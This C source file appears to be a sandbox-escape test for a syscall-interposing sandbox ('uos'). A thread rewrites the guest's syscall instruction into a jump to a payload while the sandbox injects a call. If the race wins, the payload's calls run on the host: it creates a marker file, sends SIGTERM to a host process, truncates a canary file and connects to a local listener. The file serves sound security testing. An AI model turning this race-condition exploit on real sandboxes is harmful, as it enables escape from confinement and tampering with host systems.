/*
 * gadget_race mmap|signalfd|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]:
 * rewrite the instruction uos resumes at when it injects system calls.
 *
 * Attack: uos runs the calls it injects (the mmap and close of a file
 * mapping, the execve of its exec stub) by pointing the thread back at the
 * guest's own `syscall` instruction, the one the guest trapped with.  Here
 * that instruction is on an RWX page of the guest's: the main thread makes
 * its mmap of a file (mode mmap, COUNT times), its read of two records from
 * a signalfd with two signals pending (mode signalfd: one rt_sigtimedwait
 * injected per record), or its execve of this program (mode exec, COUNT
 * execs in all, N so far) through it, and a sibling thread,
 * a random 0..DMAX_US microseconds after the main thread went in, turns it
 * into a jump to a payload (sec_payload), putting it back once the call
 * returned.
 *
 * The payload makes the system calls of an attacker: create MARKER, signal
 * the host process VICTIM, truncate the host file CANARY (one of the three
 * per entry), then asks getpid: when the host answers (not the guest's
 * virtual pid), the calls went to the host unchecked, and it goes on:
 * copies the canary into the marker, connects to 127.0.0.1:PORT (a host
 * listener) and exits with status 99.  Entered directly (the jump was there
 * before the main thread arrived), the same calls are the guest's own and
 * uos answers them (ENOENT, ESRCH): no harm, and the attempt is counted as
 * "early".
 *
 * Escape: any of those calls reaching the host: MARKER exists on the host,
 * VICTIM got a signal, CANARY is truncated, the listener accepted a
 * connection, uos exits with 99.  The script (gadget_race.sh) checks all of
 * them on the host.
 */
#define SEC_WITH_PAYLOAD
#include "sec.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/signalfd.h>
#include <sys/socket.h>

#define STACK_SIZE (256 * 1024)

extern char **environ;
static const char *marker, *canary;
static long victim, vpid, entries;
static int port;
static unsigned char *insn;
static long dmax_ns;
/* Odd while the main thread is in a call through the page; the toggler echoes each even value. */
static volatile long round_no, done_round;

/* Everything below runs as the host's own calls once getpid showed that they are. */
static _Noreturn void escaped(void)
{
	sec_escaped(marker, canary, victim, port);
}

long sec_payload(void)
{
	long r, e = entries++;
	switch (e % 3) {
	case 0:
		r = rsys4(SYS_openat, AT_FDCWD, marker, O_CREAT | O_WRONLY | O_TRUNC, 0644);
		break;
	case 1:
		r = rsys2(SYS_kill, victim, SIGTERM);
		break;
	default:
		r = rsys4(SYS_openat, AT_FDCWD, canary, O_WRONLY | O_TRUNC, 0);
		break;
	}
	if (rsys0(SYS_getpid) != vpid)
		escaped();
	if (r >= 0 && e % 3 != 1)
		rsys1(SYS_close, r);
	return -EINTR; /* what the main thread sees when it ran into the jump itself */
}

static void *toggler(void *arg)
{
	uint64_t seed = (uint64_t)sec_now_ns() | 1;
	long seen = 0;
	(void)arg;
	for (;;) {
		long r = round_no;
		if (r == seen) {
			__builtin_ia32_pause();
			continue;
		}
		if (r & 1) { /* the main thread is going in: rewrite, later */
			sec_spin_ns((long long)(sec_rand(&seed) % (uint64_t)dmax_ns));
			sec_store16(insn, SEC_JMP_PAYLOAD);
			while (round_no == r)
				__builtin_ia32_pause();
			sec_store16(insn, SEC_SYSCALL_INSN);
			r++;
		}
		seen = r;
		__atomic_store_n(&done_round, r, __ATOMIC_SEQ_CST);
	}
	return NULL;
}

/* One call through the page, with the toggler racing it. */
static long attempt(long nr, long a0, long a1, long a2, long a3, long a4, long a5, void *top)
{
	long in = round_no + 1;
	__atomic_store_n(&round_no, in, __ATOMIC_SEQ_CST);
	long r = sec_call(nr, a0, a1, a2, a3, a4, a5, insn, top);
	__atomic_store_n(&round_no, in + 1, __ATOMIC_SEQ_CST);
	while (done_round != in + 1)
		__builtin_ia32_pause();
	return r;
}

static int run_mmap(long count, void *top)
{
	long ok = 0, early = 0, other = 0, bogus = 0;
	int fd = open("/tmp/mapped", O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0 || ftruncate(fd, 4096) < 0) {
		perror("gadget_race: /tmp/mapped");
		return 2;
	}
	for (long i = 0; i < count; i++) {
		long r = attempt(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0, top);
		if (r == -EINTR) {
			early++;
		} else if (r < 0 && r > -4096) {
			if (other++ < 5)
				say("attempt %ld: mmap: %s\n", i, sec_errname(r));
		} else if ((unsigned long)r < 65536) { /* not an address: another call's result */
			if (bogus++ < 5)
				say("attempt %ld: ESCAPE: mmap returned %ld\n", i, r);
		} else {
			ok++;
			munmap((void *)r, 4096);
		}
	}
	say("gadget_race mmap: %ld attempts: %ld mapped, %ld early, %ld other, %ld bogus\n", count,
	    ok, early, other, bogus);
	return 0;
}

static int run_signalfd(long count, void *top)
{
	long ok = 0, early = 0, other = 0;
	struct signalfd_siginfo si[2];
	sigset_t set;
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigaddset(&set, SIGUSR2);
	int fd = signalfd(-1, &set, SFD_NONBLOCK);
	if (fd < 0) {
		perror("gadget_race: signalfd");
		return 2;
	}
	for (long i = 0; i < count; i++) {
		syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1);
		syscall(SYS_tgkill, getpid(), gettid(), SIGUSR2);
		long r = attempt(SYS_read, fd, (long)si, sizeof(si), 0, 0, 0, top);
		if (r == -EINTR) {
			early++;
			while (read(fd, si, sizeof(si)) > 0) /* what the jump left pending */
				;
		} else if (r == (long)sizeof(si)) {
			ok++;
		} else if (other++ < 5) {
			say("attempt %ld: read returned %ld\n", i, r);
		}
	}
	say("gadget_race signalfd: %ld attempts: %ld read, %ld early, %ld other\n", count, ok,
	    early, other);
	return 0;
}

static int run_exec(char **argv, long count, long n, void *top)
{
	long tries = 0;
	if (n >= count) {
		say("gadget_race exec: %ld execs\n", n);
		return 0;
	}
	char nbuf[32];
	snprintf(nbuf, sizeof(nbuf), "%ld", n + 1);
	char *nargv[] = {argv[0], argv[1], argv[2], argv[3], argv[4], argv[5], argv[6], argv[7], nbuf,
			 NULL};
	for (;;) {
		long r = attempt(SYS_execve, (long)argv[0], (long)nargv, (long)environ, 0, 0, 0, top);
		if (r != -EINTR)
			say("exec %ld: execve returned %s\n", n, sec_errname(r));
		if (++tries > 1000) {
			say("gadget_race exec: exec %ld never went through\n", n);
			return 1;
		}
	}
}

int main(int argc, char **argv)
{
	if (argc != 8 && argc != 9) {
		fprintf(stderr, "usage: gadget_race mmap|signalfd|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]\n");
		return 2;
	}
	marker = argv[2];
	canary = argv[3];
	victim = atol(argv[4]);
	port = atoi(argv[5]);
	long count = atol(argv[6]);
	dmax_ns = atol(argv[7]) * 1000 + 1;
	vpid = getpid();
	sigset_t set;
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigaddset(&set, SIGUSR2);
	sigprocmask(SIG_BLOCK, &set, NULL); /* for mode signalfd, in both threads */
	insn = sec_page();
	void *top = sec_stack(STACK_SIZE);
	if (!insn || !top) {
		perror("gadget_race: setup");
		return 2;
	}
	pthread_t th;
	if (pthread_create(&th, NULL, toggler, NULL)) {
		fprintf(stderr, "gadget_race: pthread_create failed\n");
		return 2;
	}
	if (strcmp(argv[1], "mmap") == 0)
		return run_mmap(count, top);
	if (strcmp(argv[1], "signalfd") == 0)
		return run_signalfd(count, top);
	return run_exec(argv, count, argc == 9 ? atol(argv[8]) : 0, top);
}
